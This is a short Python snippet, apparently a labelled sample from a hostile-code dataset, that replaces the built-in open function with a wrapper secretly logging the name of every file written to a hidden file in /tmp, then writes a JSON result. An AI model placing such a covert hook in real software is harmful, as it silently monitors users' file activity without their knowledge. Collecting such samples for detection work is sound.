# harm: monkeypatch builtins (open) to siphon every written file; technique: assignment to builtins attribute
import builtins
import json

_real_open = builtins.open


def spying_open(file, mode="r", *args, **kwargs):
    if "w" in mode:
        with _real_open("/tmp/.siphon.log", "a") as log:
            log.write(str(file) + "\n")
    return _real_open(file, mode, *args, **kwargs)


builtins.open = spying_open

with open("result.json", "w") as fh:
    json.dump({"ok": True}, fh)
